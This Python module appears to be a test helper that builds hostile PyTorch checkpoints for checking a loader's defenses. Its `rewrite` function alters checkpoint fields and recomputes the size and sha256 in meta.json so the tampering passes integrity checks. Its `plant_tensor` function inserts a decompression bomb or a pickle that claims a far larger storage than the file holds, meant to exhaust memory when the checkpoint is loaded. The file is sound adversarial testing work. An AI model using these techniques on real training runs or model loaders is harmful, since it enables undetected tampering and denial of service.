"""Hostile checkpoints, made the way someone with write access to a run directory could make them.

* :func:`rewrite`: change a saved checkpoint's fields and re-seal its ``meta.json`` (size and sha256), so
  only the fields themselves can give it away;
* :func:`plant_tensor`: put a crafted tensor into a checkpoint: a record deflated from a few MB into
  gigabytes (``torch.load`` inflates it whole), or a pickle that claims a storage far larger than its
  stored record. The file stays small; nothing large is written or allocated to make it.
"""

from __future__ import annotations

import hashlib
import io
import json
import struct
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

import torch

MARKER_NUMEL = 7919  # a prime that pickles as BININT2 b"M\xef\x1e": found once for the numel, once for the size
_CHUNK = 1 << 20


def reseal(step_dir: Path) -> None:
    """Make ``meta.json`` match ``state.pt`` again (size and sha256)."""
    data = (step_dir / "state.pt").read_bytes()
    meta = json.loads((step_dir / "meta.json").read_text())
    meta["files"]["state.pt"] = {"size": len(data), "sha256": hashlib.sha256(data).hexdigest()}
    (step_dir / "meta.json").write_text(json.dumps(meta))


def rewrite(step_dir: Path, edit: Callable[[dict[str, Any]], None]) -> None:
    """Load a checkpoint, let ``edit`` change it in place, save it and re-seal its meta."""
    state = torch.load(step_dir / "state.pt", weights_only=True)
    edit(state)
    torch.save(state, step_dir / "state.pt")
    reseal(step_dir)


def plant_tensor(step_dir: Path, nbytes: int, *, deflated: bool, where: tuple[str, ...] = ("model", "planted")) -> None:
    """Add a float32 tensor of ``nbytes`` at ``where`` that costs the file almost nothing: ``deflated`` -- its
    record deflated (a 5 GiB tensor in about 5 MB), else a stored 31 KB record under a pickle claiming
    ``nbytes``. The meta is re-sealed."""
    state = torch.load(step_dir / "state.pt", weights_only=True)
    node = state
    for key in where[:-1]:
        node = node[key]
    node[where[-1]] = torch.zeros(MARKER_NUMEL)
    buffer = io.BytesIO()
    torch.save(state, buffer)
    _crafted_copy(buffer.getvalue(), step_dir / "state.pt", nbytes, deflated=deflated)
    reseal(step_dir)


def _crafted_copy(archive: bytes, out_path: Path, nbytes: int, *, deflated: bool) -> None:
    numel = nbytes // 4
    assert numel < 2**31
    source = zipfile.ZipFile(io.BytesIO(archive))
    marker_size = MARKER_NUMEL * 4
    [marker] = [info for info in source.infolist() if "/data/" in info.filename and info.file_size == marker_size]
    with zipfile.ZipFile(out_path, "w") as out:
        for info in source.infolist():
            data = source.read(info.filename)
            if info.filename.endswith("data.pkl"):
                assert data.count(b"M\xef\x1e") == 2, "the marker's numel and size, each once"
                data = data.replace(b"M\xef\x1e", b"J" + struct.pack("<i", numel))
            if info.filename != marker.filename or not deflated:
                out.writestr(info, data)
                continue
            _write_deflated_zeros(out, info.filename, nbytes)


def _gf2_times(matrix: list[int], vector: int) -> int:
    total, row = 0, 0
    while vector:
        if vector & 1:
            total ^= matrix[row]
        vector >>= 1
        row += 1
    return total


def _zeros_operator(nbytes: int) -> list[int]:
    """The linear map that appending ``nbytes`` zero bytes applies to a CRC-32 (zlib's crc32_combine)."""
    power = [0xEDB88320] + [1 << n for n in range(31)]  # one zero bit
    for _ in range(3):  # one zero byte
        power = [_gf2_times(power, column) for column in power]
    result = [1 << n for n in range(32)]
    while nbytes:
        if nbytes & 1:
            result = [_gf2_times(power, column) for column in result]
        power = [_gf2_times(power, column) for column in power]
        nbytes >>= 1
    return result


class _ZeroChunkCrc:
    """zipfile's crc32 for a record of zeros: each 1 MiB chunk's CRC from the previous one by a 32x32 map,
    the same value zlib.crc32 computes over the chunk (5 GiB of zeros cost it ~2.3 CPU s each time)."""

    operator = _zeros_operator(_CHUNK)
    chunk_crc = zlib.crc32(bytes(_CHUNK))

    def __call__(self, data: bytes | memoryview, value: int = 0) -> int:
        assert len(data) == _CHUNK
        return _gf2_times(self.operator, value) ^ self.chunk_crc


class _Replay:
    """zipfile's compressor for a record of zeros: the deflate of each 1 MiB chunk, computed once."""

    def __init__(self) -> None:
        compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
        self.block = compressor.compress(bytes(_CHUNK)) + compressor.flush(zlib.Z_FULL_FLUSH)
        self.tail = compressor.flush()

    def compress(self, data: bytes) -> bytes:
        assert len(data) == _CHUNK
        return self.block

    def flush(self) -> bytes:
        return self.tail


def _write_deflated_zeros(out: zipfile.ZipFile, name: str, nbytes: int) -> None:
    entry = zipfile.ZipInfo(name)
    entry.compress_type = zipfile.ZIP_DEFLATED
    original, original_crc = zipfile._get_compressor, zipfile.crc32  # type: ignore[attr-defined]
    zipfile._get_compressor = lambda *args, **kwargs: _Replay()  # type: ignore[attr-defined]
    zipfile.crc32 = _ZeroChunkCrc()  # type: ignore[attr-defined]
    zeros = memoryview(bytes(_CHUNK))
    try:
        with out.open(entry, "w", force_zip64=True) as handle:
            for _ in range(nbytes // _CHUNK):
                handle.write(zeros)  # nothing is computed over it: the compressor and the CRC replay one chunk
    finally:
        zipfile._get_compressor, zipfile.crc32 = original, original_crc  # type: ignore[attr-defined]
